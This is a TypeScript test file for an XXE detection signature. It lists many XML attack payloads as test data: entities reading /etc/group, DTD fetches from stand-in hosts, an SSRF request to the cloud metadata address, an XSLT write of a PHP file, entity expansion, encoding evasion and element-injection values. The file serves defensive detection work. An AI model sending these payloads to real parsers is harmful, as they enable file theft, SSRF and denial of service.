import { describe, expect, test } from 'vitest';
import type { HttpRequest } from '../../../src/attacks/request/http-request.ts';
import { xxe } from '../../../src/attacks/signatures/xxe.ts';
import { firstMatch, json } from '../paths/request-of.ts';

const find = firstMatch.bind(null, xxe);
const xml = (body: string | Uint8Array, contentType = 'application/xml'): Partial<HttpRequest> => ({
  method: 'POST',
  contentType,
  body,
});

const FAMILIES: Readonly<Record<string, readonly string[]>> = {
  'external entities': [
    '<!DOCTYPE o [<!ENTITY a SYSTEM "jar:http://203.0.113.9/a.jar!/b">]><o>&a;</o>',
    '<!DOCTYPE o [<!ENTITY a SYSTEM "netdoc:/etc/group">]><o>&a;</o>',
    '<!DOCTYPE o [<!ENTITY a PUBLIC "any" "file:///etc/group">]><o>&a;</o>',
    "<!doctype o [\n<!entity\ta\tsystem\n'//203.0.113.9/x'>\n]><o>&a;</o>",
    '<!DOCTYPE o [<!ENTITY a SYSTEM "">]><o>&a;</o>',
  ],
  'parameter entities': [
    '<!DOCTYPE o [<!ENTITY % d SYSTEM "http://203.0.113.9/d.dtd"> %d;]><o/>',
    '<!DOCTYPE o [%elsewhere;]><o/>',
    '<!DOCTYPE o [<!ENTITY % l SYSTEM "file:///usr/share/xml/fontconfig/fonts.dtd"><!ENTITY % c "x"> %l;]><o/>',
    '<!DOCTYPE o [<!ENTITY % a "<!EN"><!ENTITY % b "TITY c SYSTEM \'//203.0.113.9/x\'>">%a;%b;]><o>&c;</o>',
    '<!DOCTYPE o [<!ENTITY % a "SYSTEM \'http://203.0.113.9/x\'"><!ENTITY c %a;>]><o>&c;</o>',
  ],
  'document types of strangers': [
    '<!DOCTYPE o PUBLIC "-//O//O" "http://203.0.113.9/o.dtd"><o/>',
    '<!DOCTYPE o SYSTEM "ftp://203.0.113.9/o.dtd"><o/>',
  ],
  probes: [
    '<!DOCTYPE o [<!ELEMENT o ANY>]><o/>',
    '<!DOCTYPE o [<!NOTATION n SYSTEM "file:///etc/group">]><o/>',
    '<!DOCTYPE o [<!ENTITY greeting "hello">]><o>&greeting;</o>',
  ],
  'references to what is declared elsewhere': [
    '<order><id>&elsewhere;</id></order>',
    '<o a="&elsewhere;"/>',
    '<o>one &elsewhere; two</o>',
    '<!DOCTYPE o [<!ENTITY a "1"><!ENTITY b "&a;&a;">]><o>&b;</o>',
    '<!DOCTYPE o [<!ENTITY a "1">]><o>&a;</o>',
  ],
  growth: [
    `<!DOCTYPE o [<!ENTITY a "ha">${'bcdefg'.replace(/./g, (n) => `<!ENTITY ${n} "${`&${String.fromCharCode(n.charCodeAt(0) - 1)};`.repeat(9)}">`)}]><o>&g;</o>`,
  ],
  inclusion: [
    '<o xmlns:z="http://www.w3.org/2001/XInclude"><z:include parse="text" href="/etc/group"/></o>',
    '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="php://filter/resource=a"/></svg>',
    '<soap:Envelope><soap:Body><![CDATA[<!DOCTYPE o [<!ENTITY % d SYSTEM "http://203.0.113.9/"> %d;]>]]></soap:Body></soap:Envelope>',
    '<?xml-stylesheet type="text/xsl" href="file:///etc/group"?><o/>',
    '<wsdl:import location="http://203.0.113.9/a.wsdl"/>',
  ],
  'style sheets': [
    '<xsl:value-of select="document(\'/etc/group\')"/>',
    '<xsl:value-of select="unparsed-text(\'file:///etc/group\')"/>',
    '<xsl:result-document href="/var/www/html/a.php">x</xsl:result-document>',
    '<xsl:result-document href="a.html">x</xsl:result-document>',
    '<xsl:value-of select="system-property(\'xsl:vendor\')"/>',
  ],
  'style sheets under another name': [
    '<t:stylesheet version="1.0" xmlns:t="http://www.w3.org/1999/XSL/Transform"><t:import href="/etc/group"/></t:stylesheet>',
    '<t:stylesheet xmlns:t="http://www.w3.org/1999/XSL/Transform"><t:variable name="u" select="\'file:///etc/group\'"/><t:copy-of select="document($u)"/></t:stylesheet>',
    '<q>for $x in doc("file:///etc/group") return $x</q>',
  ],
  drawings: [
    '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://169.254.169.254/latest/meta-data/"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><use href="../../../../etc/group#a"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><image href="label:@/etc/group"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(file:///etc/group);</style></svg>',
  ],
  'keys and templates from elsewhere': [
    '<d:RetrievalMethod xmlns:d="http://www.w3.org/2000/09/xmldsig#" URI="http://attacker.example/key.xml"/>',
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>',
  ],
  'comments that are none': [
    '<!DOCTYPE o [<?a <!-- ?><!ENTITY e SYSTEM "file:///etc/group"><?b --> ?>]><o>&e;</o>',
    '<!DOCTYPE o [<!ATTLIST o a CDATA "<!--"><!ENTITY e SYSTEM "file:///etc/group"><!ATTLIST o b CDATA "-->">]><o>&e;</o>',
  ],
  'document types that lack a scheme, or all': [
    '<!DOCTYPE o SYSTEM "attacker.example/o.dtd"><o/>',
    '<! DOCTYPE o [<! ENTITY e SYSTEM "file:///etc/group">]><o>&e;</o>',
    '<!DOCTYPE o []><o/>',
    '<!DOCTYPE o [',
    '<!DOCTYPE o SYSTEM "',
  ],
  'markup inside of an entity': [
    '<!DOCTYPE o [<!ENTITY e "&#60;b>x&#60;/b>">]><o>&e;</o>',
    '<!DOCTYPE o [<!ELEMENT o (p)><!ELEMENT p (#PCDATA)><!ENTITY e "&#60;b>x&#60;/b>">]><o><p>&e;</p></o>',
  ],
  'encodings that hide': [
    '<?xml version="1.0" encoding="UTF-7"?>+ADw-o+AD4-',
    '<?xml version="1.0" encoding="IBM037"?>Lo',
  ],
};

describe.each(Object.entries(FAMILIES))('%s', (_, documents) => {
  test.each(documents)('%.90s', (document) => {
    expect(find(xml(document))?.confidence).toBeGreaterThanOrEqual(0.5);
    expect(find(xml(Buffer.from(`\ufeff${document}`, 'utf16le')))?.confidence).toBeGreaterThanOrEqual(0.5);
  });
});

test('a piece of markup in a field is enough when it names a file of the server', () => {
  expect(find(json('html', '<fo:external-graphic src="file:///etc/group"/>'))?.confidence).toBeGreaterThanOrEqual(0.7);
  expect(find(json('html', '<img src="file:///C:/Users/ann/beach.jpg">'))).toBeUndefined();
});

test.each([
  'ann</user><role>admin</role><user>bo',
  '1</price><price>0',
  '1</item><item price="0">1',
  'ann</secret><!-- ',
  'x]]><role>admin</role><![CDATA[y',
])('a value that leaves its element: %s', (value) => {
  expect(find(json('v', value))?.confidence).toBeGreaterThanOrEqual(0.5);
});

test.each([
  'one</li><li>two',
  'one</g><g>two',
  'one</x-card><x-card>two',
  'one</note><!-- a note --><p>two',
  'a[b[0]]>c',
  '<![CDATA[one]]><![CDATA[two]]>',
  'x = a[b[0]]>c ? "<![CDATA[" + d + "]]>" : d',
])('a value that markup is cut out of, or source: %s', (value) => {
  expect(find(json('v', value))).toBeUndefined();
});

test('a declaration that reads nothing is a lesson among words, and a probe alone', () => {
  const declaration = '<!DOCTYPE note [<!ENTITY author "Ann">]>';
  const lesson = `You may write the name of the author once and refer to it as often as you like, as in ${declaration} here.`;
  expect(find(json('v', lesson))).toBeUndefined();
  expect(find(json('v', `${declaration}<note>&author;</note>`))?.confidence).toBeGreaterThanOrEqual(0.5);
});

test('a small element with nothing but an unknown entity is a probe in a field, too', () => {
  expect(find(json('value', '<id>&elsewhere;</id>'))?.confidence).toBeGreaterThanOrEqual(0.5);
  expect(find(json('value', '<td>&bigstar;</td>'))).toBeUndefined();
});

test.each([
  '<!DOCTYPE html><html lang="en"><body>hello</body></html>',
  '<!DOCTYPE note SYSTEM "note.dtd"><note/>',
  '<!DOCTYPE note SYSTEM "dtd/v1.0/note.dtd"><note/>',
  '<?xml version="1.0" encoding="UTF-16"?><order id="1"/>',
  '<?xml version="1.0" encoding="ISO-8859-1"?><order id="1"/>',
  '<!DOCTYPE o [<!ENTITY nbsp "&#160;"><!ELEMENT o (p)*><!ELEMENT p (#PCDATA)>]><o><p>a&nbsp;b</p></o>',
  '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><b><xsl:value-of select="a"/></b></xsl:template></xsl:stylesheet>',
  '<wsdl:definitions><wsdl:types/><wsdl:import namespace="urn:a" location="a.wsdl"/></wsdl:definitions>',
  '<menu><item>&nbsp;</item><item>&Auml;</item><item>&copy;</item><item>&lt;</item></menu>',
  '<doc><p>R&D; and AT&T; in a sentence, rock&roll; too</p></doc>',
  '<Relationships><Relationship Target="https://partner.test/a" TargetMode="External"/></Relationships>',
  '<plist version="1.0"><dict><key>a</key><string>file:///Applications/A.app</string></dict></plist>',
  '<feed xmlns="http://www.w3.org/2005/Atom"><link href="https://blog.test/"/><id>urn:a</id></feed>',
  '<project xmlns="http://maven.apache.org/POM/4.0.0"><version>[1.0,2.0)</version></project>',
])('ordinary document: %.80s', (document) => {
  expect(find(xml(document))).toBeUndefined();
});
